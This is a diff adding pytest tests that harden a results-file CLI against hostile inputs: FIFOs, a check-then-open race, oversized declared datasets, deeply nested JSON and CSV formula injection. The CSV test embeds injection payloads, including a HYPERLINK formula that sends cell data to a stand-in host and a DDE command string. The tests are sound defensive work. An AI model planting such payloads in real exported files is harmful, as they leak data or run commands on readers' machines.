@@ -494,3 +494,251 @@ def test_real_run_drops_secrets_warns_of_remote_code_and_ignores_hooks_without_o
         assert "token=<redacted>" in f.attrs["command"] and "test_hooks" not in f.attrs
     r = invoke(out)
     assert r.exit_code == 0 and "remote code trust_remote_code" in r.output and "test hooks" not in r.output
+
+
+# ------------------------------------------------------------------------------ issue 37 items 5-8 (readers)
+
+def _mpitp(*args, timeout: float = 30):
+    """``mpitp ARGS`` as a child with a deadline: a reader that hangs (a FIFO's open) fails the test in seconds
+    instead of holding the suite. ``report`` runs its click command in a plain Python child (``python -m mpitp
+    report`` starts an MPI singleton, which a test outside ``-m mpi`` must not)."""
+    import subprocess
+    import sys
+
+    if args[0] == "report":
+        argv = [sys.executable, "-c", "import sys; from mpitp.cli.report import report_command; "
+                "report_command.main(sys.argv[1:], prog_name='mpitp report')"]
+        args = args[1:]
+    else:
+        argv = [sys.executable, "-m", "mpitp"]
+    return subprocess.run([*argv, *map(str, args)], capture_output=True, text=True, timeout=timeout)
+
+
+def test_fifos_and_devices_named_as_results_are_refused_or_skipped_not_waited_on(tmp_path):
+    """Item 5: a FIFO named ``*.h5`` (or a sweep summary) blocked ``open`` forever in ``inspect`` and ``report DIR``.
+    Named on the command line: one line, exit 2. Found in a directory: skipped with one warning line each (a link
+    to ``/dev/zero`` too), and the report of the regular files is written."""
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    make_file(shared / "good.h5")
+    os.mkfifo(shared / "planted.h5")
+    os.mkfifo(shared / "sweep-summary.json")
+    os.symlink("/dev/zero", shared / "zero.h5")
+    os.mkfifo(tmp_path / "summary.json")
+    out = tmp_path / "report.html"
+
+    proc = _mpitp("inspect", shared / "planted.h5")
+    assert proc.returncode == 2 and proc.stderr.splitlines() == [
+        f"mpitp: error: {shared / 'planted.h5'}: refused: it is a FIFO, not a regular file"], proc.stderr
+    proc = _mpitp("inspect", tmp_path / "summary.json")
+    assert proc.returncode == 2 and proc.stderr.splitlines() == [
+        f"mpitp: error: {tmp_path / 'summary.json'}: refused: the sweep summary is a FIFO, not a regular file"], \
+        proc.stderr
+    proc = _mpitp("report", shared, "-o", out, "--bootstrap-iters", "0")
+    assert proc.returncode == 0, proc.stderr
+    assert sorted(proc.stderr.splitlines()) == [
+        f"mpitp: warning: skipped {shared / 'planted.h5'}: a FIFO, not a regular file",
+        f"mpitp: warning: skipped {shared / 'sweep-summary.json'}: a FIFO, not a regular file",
+        f"mpitp: warning: skipped {shared / 'zero.h5'}: a character device, not a regular file"], proc.stderr
+    assert "synthetic/model" in out.read_text()
+
+
+@pytest.mark.parametrize("checked", ["moved away", "deleted"])
+def test_open_h5_opens_the_file_it_checked(tmp_path, monkeypatch, checked):
+    """Item 5, the race: the name is opened once (``O_NONBLOCK``, then ``fstat``) and HDF5 opens that descriptor
+    (``/proc/self/fd/N``), so a name given another file after the check (here another results file; a FIFO there
+    would block an open by name) is not what HDF5 reads: it reads the checked file, or, where that file is gone
+    (HDF5 cannot name a deleted file), fails (one line for the readers), never the swapped-in one."""
+    import h5py as real_h5py
+
+    from mpitp.results import schema
+
+    path = make_file(tmp_path / "a.h5")
+    other = str(tmp_path / "other.h5")
+    ResultWriter(other, {**META, "model": "swapped/in"}).finish({"results": {}}, wall_time_s=1.0)
+    opened = []
+
+    class Swap(real_h5py.File):
+        def __init__(self, name, *args, **kwargs):
+            if not opened:
+                opened.append(name)
+                if checked == "moved away":
+                    os.replace(path, str(tmp_path / "moved.h5"))
+                os.replace(other, path)  # between the check and HDF5's open, the name is given another file
+            super().__init__(name, *args, **kwargs)
+
+    monkeypatch.setattr(schema.h5py, "File", Swap)
+    if checked == "moved away":
+        with schema.open_h5(path) as f:
+            assert f.attrs["model"] == "synthetic/model"
+    else:
+        with pytest.raises(OSError, match="real path"):
+            schema.open_h5(path).close()
+    assert opened[0].startswith("/proc/self/fd/")
+
+
+def _declared_columns(path: str, n: int, names) -> None:
+    """Request columns of ``n`` rows with no chunk written: they cost the file nothing and read as fill values."""
+    from mpitp.results.schema import REQUEST_FIELDS
+
+    with h5py.File(path, "a") as f:
+        g = f["tasks/syn_mc/requests"]
+        for name in names:
+            del g[name]
+            g.create_dataset(name, shape=(n,), maxshape=(None,), chunks=(1 << 16,), dtype=REQUEST_FIELDS[name])
+
+
+def test_memory_bound_is_per_file_not_per_dataset(tmp_path):
+    """Item 6: nine columns of 5M rows, each within the per-dataset bound (8 B x 5M = 40 MB < 1 MiB + 1024 x 65 kB)
+    but 265 MB together; ``mpitp report`` on it peaked at 626 MB. Now the file is refused before any row is read,
+    while a file whose columns together stay within the bound is still read."""
+    from click.testing import CliRunner
+
+    from mpitp.cli.report import report_command
+    from mpitp.results.schema import REQUEST_FIELDS
+    from mpitp.results.untrusted import EXPANSION, SMALL_DATASET_BYTES
+
+    path = make_file(tmp_path / "big.h5")
+    _declared_columns(path, 5_000_000, REQUEST_FIELDS)
+    limit = SMALL_DATASET_BYTES + EXPANSION * os.path.getsize(path)
+    assert 8 * 5_000_000 < limit < 53 * 5_000_000  # every column alone passes the old per-dataset rule
+    line = one_line_exit_2(invoke(path))
+    assert "refused: its datasets declare" in line and f"over the {limit} a file of this size can hold" in line
+    r = CliRunner().invoke(report_command, [path, "-o", str(tmp_path / "r.html")])
+    assert "refused: its datasets declare" in one_line_exit_2(r)
+    small = make_file(tmp_path / "small.h5")  # the same trick within the whole-file bound: read (rows of fill)
+    _declared_columns(small, 10_000, REQUEST_FIELDS)
+    assert invoke(small).exit_code == 0
+
+
+DEEP = "[" * 100_000 + "]" * 100_000  # Python's json recursed into a RecursionError (not a ValueError): a traceback
+
+
+def _deep_sweep_summary(tmp_path):
+    path = tmp_path / "sweep-summary.json"
+    path.write_text(json.dumps({"checkpoints": [], "comparisons": []})[:-1] + f', "extra": {DEEP}}}')
+    return path
+
+
+def test_deeply_nested_json_is_one_line_everywhere(tmp_path):
+    """Item 7: results_json, config_json, a logged sample, a journal record, a sweep summary, the recorded settings
+    of rescore and --resume: each nested 100k deep ended in a RecursionError traceback (and MPI_Abort under
+    mpiexec). Now one line with exit status 2, or, where the part is optional (config_json for the table, a sample
+    printed as text, a journal record ending the journal), no error at all."""
+    from click.testing import CliRunner
+
+    from mpitp.cli.report import report_command
+    from mpitp.evaluation.rescore import rescore
+
+    res = make_file(tmp_path / "results.h5")
+    with h5py.File(res, "a") as f:
+        f.attrs["results_json"] = DEEP
+    for args in ([], ["--json"], ["--csv"]):
+        assert "results_json is not valid: results_json nests 100000 levels deep" in one_line_exit_2(
+            invoke(res, *args))
+
+    cfg = make_file(tmp_path / "config.h5")
+    with h5py.File(cfg, "a") as f:
+        f.attrs["config_json"] = DEEP
+    r = invoke(cfg)
+    assert r.exit_code == 0 and r.exception is None, (r.output, r.exception)
+    with pytest.raises(UsageError, match=f"cannot resume {cfg}: not an mpitp results file \\(config_json nests"):
+        check_resumable(cfg, EvalConfig(model="synthetic/model", tasks=["syn_mc", "syn_gen"], limit=3))
+    with h5py.File(cfg, "a") as f:
+        f.attrs["config_json"] = "{}"
+        f.attrs["eval_config_json"] = DEEP
+    with pytest.raises(UsageError, match="its recorded settings are not valid .the recorded settings nests"):
+        rescore(cfg)
+
+    sample = make_file(tmp_path / "sample.h5")
+    with h5py.File(sample, "a") as f:
+        del f["tasks/syn_mc/samples"]
+        f.create_dataset("tasks/syn_mc/samples", data=np.array([DEEP], dtype=object), dtype=h5py.string_dtype())
+    r = invoke(sample, "--task", "syn_mc", "--samples")
+    assert r.exit_code == 0 and r.exception is None and r.output.startswith("[[["), r.exception
+    r = CliRunner().invoke(report_command, [sample, "-o", str(tmp_path / "r.html")])
+    assert "a logged sample nests 100000 levels deep" in one_line_exit_2(r)
+
+    running = _running(tmp_path, records=[{"seq": 9, "tasks": {}, "x": json.loads("[" * 50 + "]" * 50)}])
+    with open(journal_path(running), "ab") as j:
+        payload = DEEP.encode()
+        import struct
+        import zlib
+
+        j.write(struct.pack("<II", len(payload), zlib.crc32(payload)) + payload)
+    r = invoke(running)
+    assert r.exit_code == 0 and r.exception is None and "running" in r.output, (r.output, r.exception)
+
+    summary = _deep_sweep_summary(tmp_path)
+    assert "not a sweep summary (its JSON nests 100001 levels deep" in one_line_exit_2(invoke(summary))
+    r = CliRunner().invoke(report_command, [res.replace("results.h5", "config.h5"), str(summary), "-o",
+                                            str(tmp_path / "r.html")])
+    assert "not a sweep summary (its JSON nests" in one_line_exit_2(r)
+
+
+def test_json_depth_counts_brackets_outside_strings_only():
+    """The depth scan is the tokenizer's: brackets inside strings (escaped quotes and backslashes included) do not
+    count, so text full of brackets is read; real nesting past the bound is refused before parsing."""
+    from mpitp.results.untrusted import MAX_JSON_DEPTH, BadInput, json_depth, load_json
+
+    text = json.dumps({"doc": "[" * 5000 + '\\"[{' + "\\", "target": ["]]]\"[[["], "n": [[1]]})
+    assert json_depth(text) == 3 and load_json(text, "t")["doc"].startswith("[[[")
+    nested = "[" * MAX_JSON_DEPTH + "]" * MAX_JSON_DEPTH
+    assert load_json(nested, "t") == load_json(nested, "t")  # at the bound: read
+    with pytest.raises(BadInput, match=f"t nests {MAX_JSON_DEPTH + 1} levels deep"):
+        load_json("[" + nested + "]", "t")
+    with pytest.raises(BadInput, match="t is not UTF-8 text"):
+        load_json(b"\x80[]", "t")
+
+
+def test_csv_cells_cannot_start_a_formula(tmp_path):
+    """Item 8: task, metric and filter names (and a value stored as text) from a file that start with ``= + - @``,
+    a tab or a carriage return are written with a leading ``'``; numbers, negative ones too, stay numbers."""
+    import csv
+    import io
+
+    path = str(tmp_path / "formula.h5")
+    task, metric, filt = '=HYPERLINK("http://x.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)"
+    w = ResultWriter(path, META)
+    metrics = {f"{metric},{filt}": -0.5, f"{metric}_stderr,{filt}": 0.25, "-acc,\tnone": "-2+3", "acc,none": "-1.5",
+               "\racc,none": 1.0}
+    w.write_task(task, dict(n_docs=2), metrics)
+    w.finish({"results": {task: metrics}}, wall_time_s=1.0)
+    r = invoke(path, "--csv")
+    assert r.exit_code == 0, (r.output, r.exception)
+    rows = list(csv.reader(io.StringIO(r.output)))[1:]
+    cells = [c for row in rows for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))], rows
+    assert [task, metric, filt] == [c[1:] for c in rows[0][:3]] and all(c[0] == "'" for c in rows[0][:3])
+    assert rows[0][3:5] == ["-0.5", "0.25"]  # numbers stay numbers
+    by_metric = {row[1]: row for row in rows}  # a tab or CR is also printed escaped (shown): \\t, \\r
+    assert by_metric["'-acc"][2:4] == ["'\\tnone", "'-2+3"] and by_metric["acc"][3] == "-1.5"
+    assert by_metric["'\\racc"][3] == "1.0"
+    from mpitp.results.reader import load
+    from mpitp.results.render import render_csv
+
+    raw = render_csv(load(path), None)  # the text before inspect escapes it: the prefix is there already
+    assert ",'-acc,'\tnone,'-2+3," in raw and ",'\racc,none,1.0," in raw
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_escaper_lives_below_errors():
+    """Issue 38's layers: the escaper is a bottom module with no mpitp imports, and ``untrusted.shown`` is it."""
+    import ast
+
+    import mpitp.escape
+    from mpitp.results import untrusted
+
+    tree = ast.parse(open(mpitp.escape.__file__, encoding="utf-8").read())
+    imported = [n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)] + \
+        [a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names]
+    assert not [m for m in imported if m and m.startswith("mpitp")]
+    assert untrusted.shown is mpitp.escape.shown and "mpitp.escape import shown" in open(
+        __import__("mpitp.errors").errors.__file__, encoding="utf-8").read()
